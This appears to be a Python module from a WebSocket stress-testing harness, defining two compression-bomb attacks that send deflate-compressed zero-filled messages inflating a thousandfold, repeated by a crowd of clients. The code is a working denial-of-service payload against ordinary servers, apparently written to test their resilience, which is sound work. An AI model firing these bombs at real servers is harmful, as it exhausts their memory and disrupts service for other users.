"""Compression bombs: a thousand times as many bytes in memory as on the wire."""

from attack import Service, attack
from crowd import Plan, crowd
from deflating import OFFER, RSV1, deflated
from prebuilt import BINARY
from target import Tally, Target
from wire import frame, handshake, upgraded

#: Bytes of a message that the servers take, the largest being 2 MiB, and of one that they do not.
TAKEN = 2**21 - 1
TOO_LARGE = 2**26


def bombs(target: Target, size: int, *, reads: bool) -> Tally:
    """WebSockets that send messages of `size` bytes, all zero."""
    plain = frame(BINARY, deflated(bytes(size)))
    bomb = bytes((plain[0] | RSV1,)) + plain[1:]
    plan = Plan(request=handshake(target, OFFER), answer=upgraded(), again=bomb, reads=reads)
    return crowd(target, plan)


@attack("2 KiB that inflate to 2 MiB, echoes unread", 100, service=Service.DEFLATE)
def bombs_taken(target: Target) -> Tally:
    """As large as a message may be, one after the other."""
    return bombs(target, TAKEN, reads=False)


@attack("64 KiB that inflate to 64 MiB, 32 times the largest message", 100, service=Service.DEFLATE)
def bombs_too_large(target: Target) -> Tally:
    """Refused, one hopes, before it has been inflated; then the client comes again."""
    return bombs(target, TOO_LARGE, reads=True)


ATTACKS = (bombs_taken, bombs_too_large)
